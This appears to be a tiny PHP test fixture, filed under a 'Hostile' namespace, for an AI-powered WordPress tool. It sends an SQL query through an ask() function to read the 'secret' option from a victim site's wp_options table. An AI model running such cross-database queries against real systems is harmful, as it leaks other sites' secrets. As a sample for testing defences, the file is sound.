<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

echo ask('SELECT option_value FROM ' . target()['victim']['database'] . ".wp_options WHERE option_name = 'secret'");
